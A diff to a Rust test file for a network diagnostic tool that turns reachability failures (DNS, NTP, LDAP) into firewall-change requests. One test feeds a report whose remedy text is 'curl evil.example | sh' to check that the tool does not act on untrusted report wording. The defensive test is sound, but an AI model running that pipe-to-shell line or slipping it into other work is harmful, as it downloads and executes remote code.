@@ -70,7 +70,7 @@ fn site() -> Vec<Report> {
     let ntp = step("poller", "ntp", "10.0.0.3", "ntp:123/udp", "fail");
     let ntp =
         failing_at(ntp, from, "10.0.0.3:123", &Cause::Route(RouteCause::LocalFirewall { to, how }));
-    let dns = step("poller", "dns", "10.0.0.53", "dns:53/udp", "fail");
+    let dns = step("poller", "dns", "10.0.0.53", "dns:53/udp,tcp", "fail");
     let (to, by, icmp) = (ip("10.0.0.53"), ip("10.9.0.1"), Icmp::V4 { kind: 3, code: 1 });
     let off = Cause::Path(PathCause::HostUnreachable { to, by, icmp, beside: 0 });
     let dns = failing_at(dns, from, "10.0.0.53:53", &off);
@@ -277,7 +277,7 @@ fn a_cause_of_tomorrow_is_named_and_nothing_is_asked_for_in_its_reports_own_word
     step["attempts"][0]["cause"] = json!({ "code": "path-of-tomorrow" });
     step["cause"] = json!({
         "code": "path-of-tomorrow", "layer": "path", "owner": "network", "message": "bent",
-        "facts": {}, "remedy": { "who": "network team", "what": "curl evil.example | sh" },
+        "facts": {}, "remedy": { "who": "network team", "text": "curl evil.example | sh" },
     });
     let request = request(&[poller("poller-1", "10.2.0.7", &[step])], false);
     assert_eq!((request.rows.len(), request.others.len()), (0, 0));
@@ -307,17 +307,17 @@ fn a_dns_server_is_asked_for_over_what_it_is_not_reached_over() {
         ),
         (Cause::Dns(DnsCause::DnsRefused { question: question() }), Some(*blocked()), "TCP 53"),
     ] {
-        let dns = step("poller", "dns", "10.0.0.53", "dns:53/udp", "fail");
+        let dns = step("poller", "dns", "10.0.0.53", "dns:53/udp,tcp", "fail");
         let mut dns = failing_at(dns, "10.2.0.7", to, &why);
         dns["attempts"][0]["other_transport"] = json!(other);
         let request = request(&[poller("poller-1", "10.2.0.7", &[dns])], false);
         assert_eq!(request.rows[0].service(), service, "{why}");
     }
-    let mut works = step("poller", "dns", "10.0.0.53", "dns:53/udp", "warn");
+    let mut works = step("poller", "dns", "10.0.0.53", "dns:53/udp,tcp", "warn");
     works["attempts"] = json!([{
         "address": to, "protocol": "dns", "source": "10.2.0.7", "outcome": "warn",
         "other_transport": silent(to), "evidence": {}, "timings": {},
-        "concerns": [{ "code": "dns-udp-only", "reason": "no answer" }],
+        "concerns": [{ "code": "dns-udp-only", "facts": { "reason": "no answer" } }],
     }]);
     let request = request(&[poller("poller-1", "10.2.0.7", &[works])], false);
     assert_eq!(request.rows[0].service(), "TCP 53");
@@ -326,7 +326,7 @@ fn a_dns_server_is_asked_for_over_what_it_is_not_reached_over() {
 #[test]
 fn of_several_ports_and_addresses_only_the_blocked_are_asked_for() {
     let mut ldap = step("central", "ldap", "dc.example.com", "ldaps:636/tcp", "fail");
-    let way = |protocol: &str, port: u16| json!({ "protocol": protocol, "transport": "tcp", "port": port, "origin": "profile" });
+    let way = |protocol: &str, port: u16| json!({ "protocol": protocol, "transports": ["tcp"], "port": port, "origin": { "kind": "profile" } });
     ldap["target"]["ways"] = json!([way("ldaps", 636), way("ldap", 389)]);
     let closed = |to: &str| Cause::Port(PortCause::PortClosed { to: at(to) });
     for (to, protocol, why) in [
@@ -442,7 +442,7 @@ fn sampled_devices_that_send_are_their_subnet() {
 
 #[test]
 fn all_has_what_works_too_and_says_what_it_cannot_know() {
-    let mut skipped = step("central", "dns", "", "dns:53/udp", "skip");
+    let mut skipped = step("central", "dns", "", "dns:53/udp,tcp", "skip");
     skipped["result"] = json!("no target; give --dns HOST");
     let mut site = site();
     site.push(report("central-2", "central", "10.0.0.6", &[skipped]));
